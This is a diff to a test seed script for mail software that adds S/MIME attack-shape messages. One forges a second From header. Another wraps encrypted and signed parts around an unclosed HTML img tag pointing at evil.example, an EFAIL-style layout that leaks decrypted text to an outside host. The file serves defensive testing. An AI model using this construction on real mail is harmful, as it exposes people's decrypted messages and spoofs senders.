@@ -72,3 +72,14 @@ printf 'POST / HTTP/1.1\r\nHost: 127.0.0.1:10587\r\nContent-Type: text/plain\r\n
 printf 'EHLO a\r\nAUTH LOGIN\r\nZnV6eg==\r\nc2VjcmV0\r\nMAIL FROM:<a@b.c>\r\nNOOP\nQUIT\r\n' >corpus/smtp/auth-login
 printf 'EHLO a\r\nMAIL FROM:<a@b.c>\r\nAUTH PLAIN\r\n*\r\nAUTH CRAM-MD5\r\n' >corpus/smtp/unauthenticated
 echo "seeds written"
+# Attack shapes (docs/smime.md, "Reading"): two From fields, a signed and an
+# encrypted part wrapped in someone else's multipart/mixed, an attached message.
+{ printf 'From: mallory@evil.example\r\n'; cat corpus/smime/signed-detached.eml; } >corpus/smime/two-from.eml
+{
+  printf 'From: mallory@evil.example\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="w"\r\n\r\n'
+  printf -- '--w\r\nContent-Type: text/html\r\n\r\n<img src="http://evil.example/?\r\n--w\r\n'
+  sed -n '/^Content-Type:/,$p' corpus/smime/openssl-gcm-ec.eml
+  printf -- '\r\n--w\r\nContent-Type: message/rfc822\r\n\r\n'
+  cat corpus/smime/signed-opaque.eml
+  printf -- '\r\n--w--\r\n'
+} >corpus/smime/wrapped-parts.eml
